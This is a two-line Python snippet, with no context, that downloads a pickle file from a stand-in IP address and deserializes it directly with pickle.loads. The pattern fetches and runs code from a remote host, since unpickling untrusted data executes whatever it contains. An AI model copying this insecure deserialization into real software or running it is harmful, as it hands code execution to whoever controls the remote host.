import pickle, urllib.request
obj = pickle.loads(urllib.request.urlopen("http://203.0.113.4/obj.pkl").read())
